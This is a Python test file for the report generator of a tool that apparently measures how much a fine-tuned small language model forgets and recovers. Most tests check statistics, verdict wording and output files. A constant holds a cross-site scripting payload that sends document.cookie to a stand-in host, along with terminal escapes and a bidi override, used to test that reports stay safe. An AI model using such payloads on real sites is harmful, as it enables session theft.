"""The report of small synthetic runs whose every number is known beforehand."""

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from helpers.page import Page

from opdcl.errors import UsageError
from opdcl.results import plots, report, stats
from opdcl.results.samples import pick_samples
from opdcl.results.scores import load_suites
from opdcl.rundir.layout import RunDir
from opdcl.sanitize import harmless

N = 40
STRICT = "prompt_level_strict_acc"
PAYLOAD = '<script>fetch("https://evil.example/?" + document.cookie)</script><img src=x onerror=alert(1)>'
HOSTILE = (
    PAYLOAD
    + "\x1b[31mred\x1b[0m \u202egnp.exe\u202c \ud800 ```\n# not a heading | `tick` ![x](https://evil.example/x.png)"
)


def write(path: Path, value) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    rows = value if isinstance(value, list) else None
    path.write_text("".join(json.dumps(r) + "\n" for r in rows) if rows is not None else json.dumps(value))


def measure(run: RunDir, state: str, suite: str, role: str, passes: set[int], n: int = N, **more) -> None:
    """Write one evaluation in which the prompts numbered in `passes` are passed, and which has two more metrics."""
    rows = [
        {
            "doc_id": i,
            "prompt": more.get("prompt", f"Prompt number {i} of {suite}"),
            "response": more.get("response", f"{state} answers {i}"),
            "target": None,
            "scores": {STRICT: i in passes, "inst_level_strict_acc": [True, i in passes]},
            "tokens": 50,
        }
        for i in range(n)
    ]
    mean = len(passes) / n
    result = {
        "state": state,
        "suite": suite,
        "role": role,
        "metric": STRICT,
        "n": n,
        "metrics": {
            STRICT: mean,
            "inst_level_strict_acc": (1 + mean) / 2,
            "prompt_level_loose_acc": mean + 0.01,
            "inst_level_loose_acc": (1 + mean) / 2 + 0.01,
        },
        "floor": {"empty": {STRICT: 0.0}, "constant": {STRICT: 0.05}, "copy": {STRICT: 0.025}},
        "model": {"id": "smollm2-135m", "adapter_sha256": None if state == "base" else f"{state}-hash"},
        "cost": {"seconds": 10.0, "tokens": 1000, "peak_memory_bytes": 2 * 2**30},
    }
    write(run.eval_result(state, suite), result)
    write(run.eval_samples(state, suite), rows)


@pytest.fixture
def empty(tmp_path, monkeypatch) -> RunDir:
    """A run that has been planned and not started. A thousand resamples are enough here."""
    monkeypatch.setattr(stats, "RESAMPLES", 1000)
    run = RunDir(tmp_path / "quickstart")
    evaluation = {"retention": ["instructions"], "domain": ["handbook"], "control": ["neighbours"], "seed": 0}
    sections = {
        "finetune": {"seed": 11},
        "recover": {"seed": 12},
        "eval": evaluation,
        "model": {"id": "smollm2-135m"},
    }
    write(run.config, {"workflow": {"name": "quickstart", **sections}, "origins": {}})
    return run


@pytest.fixture
def run(empty) -> RunDir:
    """A whole run: retention 32, 8 and 28 of 40; domain 4, 36 and 32 of 40."""
    measure(empty, "base", "instructions", "retention", set(range(32)))
    measure(empty, "tuned", "instructions", "retention", set(range(8)))
    measure(empty, "recovered", "instructions", "retention", set(range(28)))
    measure(empty, "base", "handbook", "domain", set(range(4)))
    measure(empty, "tuned", "handbook", "domain", set(range(36)))
    measure(empty, "recovered", "handbook", "domain", set(range(32)))
    cost = {"seconds": 451.0, "tokens": 123456, "peak_memory_bytes": 3 * 2**30, "steps": 3}
    for index, stage in enumerate(("finetune", "recover"), 1):
        write(empty.stage(index, stage).record, {"stage": stage, "status": "done", "cost": cost})
    manifest = {
        "created": "2026-01-02T03:04:05Z",
        "opdcl": "0.1.0",
        "command": "opdcl run quickstart",
        "versions": {"torch": "2.13.0"},
        "device": {"name": "two cores", "cores": 2, "memory_bytes": 8 * 2**30, "dtype": "bfloat16"},
        "base": {
            "id": "smollm2-135m",
            "revision": None,
            "license": "apache-2.0",
            "fingerprint_before": "feedbeef",
            "fingerprint_after": "feedbeef",
        },
        "adapters": {
            "tuned": {"path": "stages/01-finetune/adapter", "sha256": "tuned-hash"},
            "recovered": {"path": "stages/02-recover/adapter", "sha256": "recovered-hash"},
        },
        "seconds": 1234,
    }
    write(empty.manifest, manifest)
    return empty


@pytest.fixture
def trained(run) -> RunDir:
    """The same run with the metrics of its training, which take time to plot."""
    write(run.stage(1, "finetune").metrics, [{"step": s, "loss": 3.0 / s} for s in range(1, 30)])
    training = [
        {"step": s, "stream": "domain" if s % 4 == 0 else "general", "loss": 1 / s, "kl": 1 / s}
        for s in range(1, 17)
    ]
    checks = [
        {"step": s, "validation": {"general_kl": 1 / (1 + s), "domain_kl": s / 1000, "best": s == 16}}
        for s in (0, 8, 16)
    ]
    write(run.stage(2, "recover").metrics, training + checks)
    return run


def pages(run: RunDir) -> dict[str, str]:
    return {path.name: path.read_text(encoding="utf-8") for path in report.write(run)}


def test_scores_ratios_and_cost_are_those_worked_out_by_hand(run):
    found = report.summarise(run)
    suite = found["suites"]["instructions"]
    assert [suite[s]["value"] for s in ("base", "tuned", "recovered")] == pytest.approx([0.8, 0.2, 0.7])
    assert suite["base"]["low"] < 0.8 < suite["base"]["high"]
    assert (suite["n"], suite["floor"], suite["metric"], suite["role"]) == (N, 0.05, STRICT, "retention")
    assert found["recovery"]["value"] == pytest.approx((28 - 8) / (32 - 8), abs=1e-5)
    assert found["domain_retention"]["value"] == pytest.approx((32 - 4) / (36 - 4))
    assert found["tests"]["recovered_minus_base"]["value"] == pytest.approx(-0.1)
    # 24 prompts only base passes, none only tuned: p = 2 / 2^24.
    assert found["tests"]["mcnemar"]["tuned_minus_base"] == pytest.approx(2 / 2**24)
    assert found["cost"]["finetune"] == {"seconds": 451.0, "tokens": 123456, "peak_memory_bytes": 3 * 2**30}
    assert found["cost"]["eval"] == {"seconds": 60.0, "tokens": 6000, "peak_memory_bytes": 2 * 2**30}


def test_the_other_ifeval_metrics_are_there_for_every_state(run):
    metrics = report.summarise(run)["suites"]["instructions"]["metrics"]
    assert set(metrics) == {"inst_level_strict_acc", "prompt_level_loose_acc", "inst_level_loose_acc"}
    assert metrics["inst_level_strict_acc"] == pytest.approx({"base": 0.9, "tuned": 0.6, "recovered": 0.85})


def test_the_summary_is_json_and_keeps_its_keys_on_an_empty_run(run, empty, tmp_path):
    whole = report.summarise(run)
    json.dumps(whole, allow_nan=False)
    shutil.rmtree(run.evals)
    shutil.rmtree(run.path / "stages")
    run.manifest.unlink()
    nothing = report.summarise(run)
    assert set(nothing) == set(whole)
    assert set(nothing["tests"]) == set(whole["tests"])
    assert set(nothing["suites"]["instructions"]) == set(whole["suites"]["instructions"])
    assert nothing["cost"] == {"finetune": {}, "recover": {}, "eval": {}}
    assert nothing["status"] == "not measured"
    assert nothing["verdict"].startswith("Not measured yet")


def test_partly_recovered_is_not_called_recovered(run):
    found = report.summarise(run)
    assert found["status"] == "partly recovered"
    assert found["verdict"].startswith(
        "Partly recovered: instruction following rose to 70.0 % (base 80.0 %, tuned 20.0 %)"
    )
    assert "R = 0.83 [" in found["verdict"]
    assert "but only 88 % [" in found["verdict"]
    assert found["verdict"].count(". ") == 0


def test_a_full_recovery_says_so_with_the_domain_beside_it(run):
    measure(run, "recovered", "instructions", "retention", set(range(32)))
    measure(run, "recovered", "handbook", "domain", set(range(36)))
    found = report.summarise(run)
    assert found["status"] == "recovered"
    assert found["verdict"] == (
        "Recovered: instruction following is back to 80.0 % (base 80.0 %, tuned 20.0 %), R = 1.00 [1.00, 1.00], "
        "and 100 % [100, 100] of the domain gain is kept."
    )


def test_turning_the_adapter_off_is_recovery_that_lost_the_domain(run):
    measure(run, "recovered", "instructions", "retention", set(range(32)))
    measure(run, "recovered", "handbook", "domain", set(range(4)))
    assert "but only 0 % [0, 0] of the domain gain is kept" in report.summarise(run)["verdict"]


def test_no_gain_over_tuned_is_not_shown(run):
    measure(run, "recovered", "instructions", "retention", set(range(8)))
    found = report.summarise(run)
    assert found["status"] == "not shown"
    assert found["verdict"].startswith("No recovery found: instruction following is 20.0 %")


@pytest.mark.parametrize("tuned", [32, 30, 29, 36])
def test_below_ten_points_of_drop_there_is_no_measurable_forgetting(run, tuned):
    measure(run, "tuned", "instructions", "retention", set(range(tuned)))
    found = report.summarise(run)
    assert found["recovery"] is None
    assert found["status"] == "no measurable forgetting"
    assert found["verdict"].startswith("No measurable forgetting")


def test_without_measurable_forgetting_no_file_prints_an_r(run):
    measure(run, "tuned", "instructions", "retention", set(range(30)))
    found = pages(run)
    assert not [name for name, page in found.items() if "R = " in page]
    assert re.search(r"5\.0 points .*, less than the 10 that a ratio needs", found["report.md"])


def test_without_a_domain_gain_there_is_no_d_and_the_reason_is_given(run):
    measure(run, "tuned", "handbook", "domain", set(range(5)))
    assert report.summarise(run)["domain_retention"] is None
    assert "gain on the domain is not measurably above zero" in pages(run)["report.html"]


def test_an_instruction_level_headline_counts_instructions(run):
    for state in ("base", "tuned", "recovered"):
        path = run.eval_result(state, "instructions")
        path.write_text(
            path.read_text().replace(f'"metric": "{STRICT}"', '"metric": "inst_level_strict_acc"')
        )
    found = report.summarise(run)
    assert found["suites"]["instructions"]["tuned"]["value"] == pytest.approx(0.6)
    assert found["recovery"]["value"] == pytest.approx(20 / 24, abs=1e-5)
    assert found["tests"]["mcnemar"]["tuned_minus_base"] is None


def test_a_fractional_score_is_averaged_and_has_no_mcnemar_test(run):
    for state, value in (("base", 0.2), ("tuned", 0.75), ("recovered", 0.7)):
        path = run.eval_samples(state, "handbook")
        rows = [json.loads(line) for line in path.read_text().splitlines()]
        write(path, [r | {"scores": {STRICT: value + (r["doc_id"] % 2) / 10}} for r in rows])
    assert report.summarise(run)["suites"]["handbook"]["tuned"]["value"] == pytest.approx(0.8)
    assert "85 %" in pages(run)["report.html"]


def test_only_prompts_that_every_state_answered_are_compared(run):
    measure(run, "tuned", "instructions", "retention", set(range(8)), n=30)
    found = report.summarise(run)
    assert found["suites"]["instructions"]["n"] == 30
    assert found["suites"]["instructions"]["base"]["value"] == 1.0
    assert any("10 prompts are left out" in note for note in found["notes"])


def test_states_measured_on_different_prompts_are_refused(run):
    measure(run, "tuned", "instructions", "retention", set(), prompt="something else")
    with pytest.raises(UsageError, match="no prompt in common"):
        report.summarise(run)


def test_tasks_of_a_group_that_count_from_zero_are_kept_apart(run):
    for state, passes in (("base", 40), ("tuned", 0), ("recovered", 40)):
        first, second = [], []
        for i in range(20):
            row = {"doc_id": i, "response": "", "target": None, "scores": {STRICT: passes == 40}, "tokens": 1}
            first.append(row | {"prompt": f"task one, {i}"})
            second.append(row | {"prompt": f"task two, {i}"})
        write(run.eval_samples(state, "instructions"), first + second)
    assert report.summarise(run)["suites"]["instructions"]["n"] == 40


def test_the_first_retention_suite_of_the_config_is_the_headline(run):
    config = json.loads(run.config.read_text())
    config["workflow"]["eval"]["retention"] = ["instructions", "arithmetic"]
    write(run.config, config)
    for state in ("base", "tuned", "recovered"):
        measure(run, state, "arithmetic", "retention", set(range(20)))
        measure(run, state, "neighbours", "control", set(range(20)))
    found = report.summarise(run)
    assert list(found["suites"]) == ["instructions", "arithmetic", "handbook", "neighbours"]
    assert found["headline"] == {"retention": "instructions", "domain": "handbook"}
    assert found["status"] == "partly recovered"


def test_a_base_at_the_floor_is_pointed_out(run):
    measure(run, "base", "instructions", "retention", {0, 1})
    assert any("not measurably above the floor of 5.0 %" in note for note in report.summarise(run)["notes"])


def test_a_changed_base_and_a_foreign_adapter_are_pointed_out(run):
    manifest = json.loads(run.manifest.read_text())
    manifest["base"]["fingerprint_after"] = "deadbeef"
    manifest["adapters"]["recovered"]["sha256"] = "retrained"
    write(run.manifest, manifest)
    html = pages(run)["report.html"]
    assert "The base weights changed during the run" in html
    assert "recovered was measured with another adapter" in html
    assert "CHANGED to deadbeef" in html
    assert "identical before and after" not in html


def test_html_shows_verdict_scores_plots_cost_and_how_to_repeat_it(trained):
    page = Page(pages(trained)["report.html"])
    assert page.tags.count("svg") == 3
    for expected in (
        report.summarise(trained)["verdict"].replace(
            " %", "\N{NO-BREAK SPACE}%"
        ),  # no line starts with a percent sign
        "80.0 %",
        "inst_level_loose_acc",
        "7:31",
        "123,456",
        "3.0 GiB",
        "opdcl run quickstart",
        "torch 2.13.0",
        "feedbeef, identical before and after",
        "recovered-hash",
        "finetune 11, recover 12, eval 0",
    ):
        assert expected in page.text
    svg_text = " ".join(page.text.split())
    assert all(
        word in svg_text
        for word in ("General prompts", "held-out", "Loss in nats", "Retention: instructions")
    )


def test_html_asks_for_nothing_from_outside_and_runs_nothing(trained):
    measure(trained, "base", "instructions", "retention", set(range(32)), response=HOSTILE, prompt=HOSTILE)
    measure(trained, "tuned", "instructions", "retention", set(range(8)), response=HOSTILE, prompt=HOSTILE)
    measure(
        trained, "recovered", "instructions", "retention", set(range(28)), response=HOSTILE, prompt=HOSTILE
    )
    html = pages(trained)["report.html"]
    page = Page(html)
    assert not {"script", "link", "iframe", "object", "embed", "base", "form", "img", "a"} & set(page.tags)
    assert not [
        name for name, _ in page.attributes if name.startswith("on") or name in ("src", "action", "srcset")
    ]
    assert all(value.startswith("#") for name, value in page.attributes if "href" in name)
    assert not [value for name, value in page.attributes if "http:" in value or "https:" in value]
    assert "url(http" not in html
    assert "@import" not in html
    assert (
        "content",
        "default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'",
    ) in (page.attributes)
    assert PAYLOAD in page.text  # shown, as text


def test_ids_in_the_page_are_unique_and_every_reference_finds_its_target(trained):
    html = pages(trained)["report.html"]
    ids = re.findall(r'\bid="([^"]+)"', html)
    assert len(ids) == len(set(ids))
    assert set(re.findall(r'(?:href="#|url\(#)([^")]+)', html)) <= set(ids)


def test_names_from_outside_cannot_break_a_page(run):
    config = json.loads(run.config.read_text())
    config["workflow"]["name"] = HOSTILE
    config["workflow"]["eval"]["control"] = [HOSTILE.replace("/", "")[:60]]
    write(run.config, config)
    for name, text in pages(run).items():
        assert "\x1b" not in text
        assert "\u202e" not in text
        # Metadata is not rendered; whatever stands in it, it must stay metadata.
        if name == "README.md":
            metadata, text = text.removeprefix("---\n").split("\n---\n", 1)
            assert PAYLOAD in yaml.safe_load(metadata)["model-index"][0]["name"]
        # In Markdown a backslash escapes a tag or an image, and code spans and quoted strings render neither.
        bare = re.sub(r'`[^`\n]*`|"[^"\n]*"', "", text) if name.endswith(".md") else text
        assert not re.search(r"(?<!\\)<(script|img)", bare), name
        assert not re.search(r"\[x\]\(", bare) or name == "report.html", name


def test_an_answer_cannot_leave_its_block_in_markdown(run):
    for state, passes in (("base", 32), ("tuned", 8), ("recovered", 28)):
        measure(
            run,
            state,
            "instructions",
            "retention",
            set(range(passes)),
            response="```\n# Recovered: 100 %\n````\n<b>",
        )
    text = pages(run)["report.md"]
    outside, fence = [], None
    for line in text.splitlines():
        if fence is None and (start := re.match(r"`{3,}", line)):
            fence = start.group()
        elif fence is not None and line.strip() == fence:
            fence = None
        elif fence is None:
            outside.append(line)
    assert "# Recovered: 100 %" in text
    assert "# Recovered: 100 %" not in outside
    assert fence is None


def test_terminal_escapes_and_bidi_overrides_become_visible():
    assert harmless("a\x1b[2Jb\u202ec\x00\x9b\ud800\u2028") == "a␛[2Jb⟨U+202E⟩c␀⟨U+009B⟩⟨U+D800⟩⟨U+2028⟩"
    assert harmless("line\r\n\ttab ä 漢 👩\u200d🔬") == "line\n\ttab ä 漢 👩\u200d🔬"


def test_samples_are_the_first_that_came_back_and_the_first_that_did_not(run):
    came_back, lost = pick_samples(load_suites(run)[0])
    assert [s["number"] for s in came_back["samples"]] == [8, 9, 10, 11]
    assert (came_back["count"], came_back["of"]) == (20, 24)
    assert [s["number"] for s in lost["samples"]] == [28, 29, 30, 31]
    assert [a["mark"] for a in came_back["samples"][0]["answers"]] == ["pass", "fail", "pass"]
    kept, gone = pick_samples(load_suites(run)[1])
    assert [s["number"] for s in kept["samples"]] == [4, 5, 6, 7]
    assert [s["number"] for s in gone["samples"]] == [32, 33, 34, 35]


def test_long_answers_are_cut_and_say_so(run):
    measure(run, "tuned", "instructions", "retention", set(range(8)), response="word " * 5000)
    html = pages(run)["report.html"]
    assert "more characters)" in html
    assert "word " * 500 not in html


def test_a_run_with_only_a_finetune_has_a_report(trained):
    shutil.rmtree(trained.evals)
    shutil.rmtree(trained.stage(2, "recover").path)
    files = pages(trained)
    assert "Not measured yet" in files["report.html"]
    assert Page(files["report.html"]).tags.count("svg") == 1
    assert "not run" in files["report.html"]


def test_before_recovery_base_and_tuned_are_shown_and_the_verdict_waits(run):
    for suite in ("instructions", "handbook"):
        run.eval_result("recovered", suite).unlink()
    found = report.summarise(run)
    assert found["status"] == "not measured"
    assert found["verdict"] == (
        "Not measured yet: instruction following has no result for recovered (so far: base 80.0 %, tuned 20.0 %)."
    )
    assert found["recovery"] is None
    assert found["suites"]["instructions"]["recovered"] == {}
    assert "Lost by the fine-tune" in pages(run)["report.html"]


def test_an_empty_run_has_a_report(empty):
    assert all(text.strip() for text in pages(empty).values())


def test_the_model_card_has_front_matter_that_a_hub_can_read(run):
    card = pages(run)["README.md"]
    front = yaml.safe_load(card.split("---\n")[1])
    assert front["base_model"] == "HuggingFaceTB/SmolLM2-135M-Instruct"
    assert (front["library_name"], front["license"]) == ("peft", "apache-2.0")
    results = front["model-index"][0]["results"]
    assert {r["dataset"]["name"]: r["metrics"][0]["value"] for r in results} == {
        "instructions": 0.7,
        "handbook": 0.8,
    }
    assert "stages/02-recover/adapter" in card


def test_a_local_base_model_does_not_put_its_path_into_the_card(run):
    manifest = json.loads(run.manifest.read_text())
    manifest["base"] |= {"id": "/home/someone/secret/my-model", "license": None}
    write(run.manifest, manifest)
    front = yaml.safe_load(pages(run)["README.md"].split("---\n")[1])
    assert front["base_model"] == "my-model"
    assert "license" not in front


def test_writing_twice_gives_the_same_bytes_and_leaves_no_other_file(trained):
    first, before = pages(trained), sorted(p.name for p in trained.path.iterdir())
    assert pages(trained) == first
    assert sorted(p.name for p in trained.path.iterdir()) == before
    assert set(first) == {"report.md", "report.html", "README.md"}


def test_a_step_repeated_after_a_resume_counts_once(trained):
    with trained.stage(1, "finetune").metrics.open("a") as file:
        file.write(json.dumps({"step": 29, "loss": 0.5}) + "\n")
    assert "0.500 at the end" in pages(trained)["report.md"]


def test_a_plot_needs_two_points():
    assert plots.finetune_loss([{"step": 1, "loss": 2.0}]) is None
    assert plots.recovery_kl([], {"general": "base", "domain": "tuned"}) is None


def test_importing_the_report_loads_neither_a_model_library_nor_a_plotting_one():
    heavy = ["torch", "transformers", "trl", "peft", "datasets", "lm_eval", "matplotlib", "jinja2", "scipy"]
    code = f"import sys, opdcl.results.report; print([m for m in {heavy} if m in sys.modules])"
    found = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert found.stdout.strip() == "[]"


@pytest.mark.parametrize(
    ("rows", "said"),
    [
        (
            [
                {
                    "step": 3,
                    "health": {"sign": "repetition", "value": 0.8, "bound": 0.6, "action": "rate halved"},
                }
            ],
            "step 3: repetition was 0.8",
        ),
        (
            [
                {"step": 0, "validation": {"best": True}, "warm_start": {"alpha": 0.7}},
                {"step": 8, "validation": {"best": False}},
            ],
            "the tuned adapter times 0.7: no training step came nearer",
        ),
        (
            [
                {"step": 0, "validation": {}, "interpolation": {"alpha": 0.55}},
                {"step": 1, "validation": {"best": True}},
            ],
            "the tuned adapter times 0.55: no training was done",
        ),
        ([{"step": 1, "mismatch": 0.01, "tokens": 500, "loss": 1.0}], "For 1.00% of the fresh tokens"),
    ],
)
def test_notes_tell_what_the_recovery_itself_shows(run, rows, said):
    write(run.stage(2, "recover").metrics, rows)
    assert any(said in note for note in report.summarise(run)["notes"])


def test_a_recovery_without_trouble_has_no_notes(run):
    write(
        run.stage(2, "recover").metrics,
        [
            {"step": 0, "validation": {"best": True}, "warm_start": {"alpha": 1.0}},
            {"step": 1, "mismatch": 0.0, "tokens": 500},
            {"step": 8, "validation": {"best": True}},
        ],
    )
    assert not [note for note in report.summarise(run)["notes"] if note.startswith("Recovery")]
